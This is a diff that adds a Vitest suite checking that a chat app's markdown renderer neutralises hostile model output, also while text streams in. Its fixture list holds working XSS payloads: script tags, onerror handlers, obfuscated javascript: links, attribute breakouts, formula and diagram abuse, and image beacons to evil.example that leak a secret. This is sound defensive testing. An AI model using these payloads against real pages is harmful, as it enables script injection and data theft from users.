@@ -1,0 +1,156 @@
+import { flushPromises } from '@vue/test-utils'
+import { mountSuspended } from '@nuxt/test-utils/runtime'
+import { afterEach, expect, test, vi } from 'vitest'
+import MarkdownRenderer from '../../../components/conversation/markdown/MarkdownRenderer.vue'
+
+/** What a hostile model may write. Each must neither run, nor load, nor lead anywhere but http, https or mail. */
+const hostile: [name: string, markdown: string][] = [
+  ['a script', 'a <script>alert(1)</script> b'],
+  ['a script block', '<script>\nalert(1)\n</script>'],
+  ['a picture with a handler', '<img src=x onerror=alert(1)>'],
+  ['a picture in HTML', 'x <img src="https://evil.example/a.png"> y'],
+  ['a frame', '<iframe src="https://evil.example"></iframe>'],
+  ['a frame with a document', '<iframe srcdoc="<script>alert(1)</script>"></iframe>'],
+  ['an object and an embed', '<object data="https://evil.example"></object><embed src="https://evil.example">'],
+  ['a style', '<style>body{background:url(https://evil.example/s)}</style>'],
+  ['a style attribute', '<p style="background:url(https://evil.example/p)">x</p>'],
+  ['a stylesheet', '<link rel="stylesheet" href="https://evil.example/s.css">'],
+  ['a base', '<base href="https://evil.example/">'],
+  ['a refresh', '<meta http-equiv="refresh" content="0;url=https://evil.example">'],
+  ['a form', '<form action="https://evil.example"><input name=a><button>go</button></form>'],
+  ['SVG with script', '<svg onload=alert(1)><script>alert(1)</script><image href="https://evil.example/i.png"/></svg>'],
+  ['MathML', '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>'],
+  ['video and audio', '<video src="https://evil.example/v" poster="https://evil.example/p" autoplay></video><audio src="https://evil.example/a"></audio>'],
+  ['a picture', '![secret](https://evil.example/x.png?q=secret)'],
+  ['a picture without a scheme', '![secret](//evil.example/x.png)'],
+  ['a picture by reference', '![secret][ref]\n\n[ref]: https://evil.example/ref.png'],
+  ['a picture by short reference', '![secret]\n\n[secret]: https://evil.example/ref.png'],
+  ['a picture in a link', '[![x](https://evil.example/x.png)](https://evil.example)'],
+  ['a picture in a table', '| a |\n|---|\n| ![x](https://evil.example/x.png) |'],
+  ['a picture in a list in a quote', '> - ![x](https://evil.example/x.png)'],
+  ['a picture in a heading', '# ![x](https://evil.example/x.png)'],
+  ['a picture in a footnote', 'a[^1]\n\n[^1]: ![x](https://evil.example/x.png)'],
+  ['a data picture', '![x](data:image/png;base64,AAAA)'],
+  ['an SVG data picture', '![x](data:image/svg+xml,<svg onload=alert(1)>)'],
+  ['a javascript link', '[x](javascript:alert(1))'],
+  ['a javascript link in other letters', '[x](JaVaScRiPt:alert(1))'],
+  ['a javascript link with entities', '[x](&#106;avascript:alert(1))'],
+  ['a javascript link with a tab', '[x](java\tscript:alert(1))'],
+  ['a javascript link by reference', '[x][r]\n\n[r]: javascript:alert(1)'],
+  ['a javascript autolink', '<javascript:alert(1)>'],
+  ['a vbscript link', '[x](vbscript:msgbox(1))'],
+  ['a data link', '[x](data:text/html,<script>alert(1)</script>)'],
+  ['a blob link', '[x](blob:https://evil.example/1)'],
+  ['a file link', '[x](file:///etc/passwd)'],
+  ['a link into this site', '[x](/api/account)'],
+  ['a title that breaks out', '[x](https://a.example "\\" onmouseover=\\"alert(1)")'],
+  ['an alternative text that breaks out', '![" onerror="alert(1)](https://evil.example/x.png)'],
+  ['a formula with a link', '$\\href{javascript:alert(1)}{x}$'],
+  ['a formula with a picture', '$$\\includegraphics{https://evil.example/x.png}$$'],
+  ['a formula with HTML', '$\\htmlData{a=b}{x}\\htmlStyle{background:url(https://evil.example)}{y}$'],
+  ['a formula that swells', '$\\def\\a#1{#1#1}\\a{\\a{\\a{\\a{\\a{\\a{\\a{\\a{\\a{\\a{x}}}}}}}}}}$'],
+  ['a diagram with a link', '```mermaid\ngraph TD; A-->B; click A "javascript:alert(1)"\n```'],
+  ['a diagram with a picture', '```mermaid\nflowchart TD\nA@{ img: "https://evil.example/x.png" }\n```'],
+  ['code named as a picture', '```image\nhttps://evil.example/x.png\n```'],
+  ['code named as a link', '```link\njavascript:alert(1)\n```'],
+  ['code named as HTML', '```html\n<script>alert(1)</script><img src=https://evil.example/x>\n```'],
+  ['code named as HTML block', '```html_block\n<img src=https://evil.example/x onerror=alert(1)>\n```'],
+  ['a language that breaks out', '```"><img/src=x/onerror=alert(1)>\nx\n```'],
+  ['a language that is a prototype word', '```constructor\nx\n```\n\n```__proto__\nx\n```'],
+  ['code that is a diagram of another kind', '```infographic\n![x](https://evil.example/x.png)\n```\n\n```d2\nx: {icon: https://evil.example/x.png}\n```'],
+  ['a component in a colon fence', '::: vmr\n<img src=https://evil.example/x>\n:::'],
+  ['half a picture', '![x](https://evil.example/x.pn'],
+  ['half a tag', 'x <img src=https://evil.example/x onerr'],
+]
+
+const forbiddenTags = 'script, iframe, object, embed, style, link, base, meta, form, input:not([type=checkbox]), video, audio, source, image, frame, template'
+const loading = ['src', 'srcset', 'poster', 'data', 'action', 'formaction', 'background', 'srcdoc', 'ping', 'xlink:href']
+
+/** What is wrong with one attribute; null when nothing is. Our own drawings of diagrams are blobs this page made. */
+function attributeFault(name: string, value: string): string | null {
+  if (name.startsWith('on')) return `handler ${name}`
+  if (loading.includes(name) && !value.startsWith('blob:')) return `${name}=${value}`
+  if (name === 'style' && /url\(|@import|expression/i.test(value)) return `style ${value}`
+  return name === 'href' && !/^(https?:|mailto:)/.test(value) ? `href ${value}` : null
+}
+
+const keepsHold = (link: Element) => link.getAttribute('target') !== '_blank' || !link.getAttribute('rel')?.includes('noopener')
+
+/** Everything on the page that must not be there. */
+function faults(root: Element): string[] {
+  return [
+    ...[...root.querySelectorAll(forbiddenTags)].map(element => `tag ${element.tagName}`),
+    ...[...root.querySelectorAll('*')].flatMap(element => [...element.attributes].map(({ name, value }) => attributeFault(name, value)).filter(fault => fault !== null)),
+    ...[...root.querySelectorAll('a[href]')].filter(keepsHold).map(link => `${link.outerHTML} keeps hold of us`),
+  ]
+}
+
+async function render(text: string, streaming = false) {
+  const page = await mountSuspended(MarkdownRenderer, { props: { text, streaming } })
+  await flushPromises()
+  return page
+}
+const alert = vi.fn()
+vi.stubGlobal('alert', alert)
+afterEach(() => expect(alert).not.toHaveBeenCalled())
+
+test.each(hostile)('%s neither runs nor loads', async (_, markdown) => {
+  const page = await render(markdown)
+  expect(faults(page.element.parentElement ?? page.element)).toEqual([])
+  page.unmount()
+})
+
+test.each(hostile)('%s neither runs nor loads while it arrives in pieces', async (_, markdown) => {
+  const page = await render('', true)
+  for (let end = 1; end <= markdown.length; end += end < 12 ? 1 : 5) {
+    await page.setProps({ text: markdown.slice(0, end), streaming: false })
+    await page.setProps({ text: markdown.slice(0, end), streaming: true })
+    expect(faults(page.element.parentElement ?? page.element)).toEqual([])
+  }
+  await page.setProps({ text: markdown, streaming: false })
+  await flushPromises()
+  expect(faults(page.element.parentElement ?? page.element)).toEqual([])
+  page.unmount()
+})
+
+test('a picture becomes a link that names where it would come from', async () => {
+  const page = await render('![A cat](https://pictures.example.org/cat.png)')
+  const link = page.get('a')
+  expect(link.text()).toBe('A cat (image from pictures.example.org)')
+  expect(link.attributes()).toMatchObject({ href: 'https://pictures.example.org/cat.png', target: '_blank', rel: expect.stringContaining('noreferrer') })
+  page.unmount()
+})
+
+test('HTML is shown as it was written', async () => {
+  const page = await render('Use `Array<T>` or Array<T> and <b>bold</b>.')
+  expect(page.text()).toContain('Array<T> or Array<T> and <b>bold</b>.')
+  page.unmount()
+})
+
+test('code keeps every character and can be copied', async () => {
+  const code = 'if (a < b && c) {\n\treturn "<T>"  \n}\n\nend'
+  const page = await render(`\`\`\`ts\n${code}\n\`\`\``)
+  expect(page.get('pre').element.textContent).toBe(code)
+  expect(page.text()).toContain('Copy')
+  page.unmount()
+})
+
+test('a block of code is shown whatever its language is called', async () => {
+  const page = await render('```constructor\none\n```\n\n```__proto__\ntwo\n```\n\n```image\nthree\n```\n\n```toString\nfour\n```')
+  expect(page.findAll('pre').map(pre => pre.text())).toEqual(['one', 'two', 'three', 'four'])
+  page.unmount()
+})
+
+test('footnotes are text, so that those of two messages are not mixed up', async () => {
+  const page = await render('Water[^1] boils.\n\n[^1]: At 100 degrees.')
+  expect(page.text().replace(/\s+/g, ' ')).toBe('Water[1] boils.[1]At 100 degrees.')
+  expect(page.find('a, [id]').exists()).toBe(false)
+  page.unmount()
+})
+
+test('headings stand below the page’s own', async () => {
+  const page = await render('# One\n\n## Two')
+  expect(page.find('h1, h2').exists()).toBe(false)
+  expect(page.get('h3').text()).toBe('One')
+  page.unmount()
+})
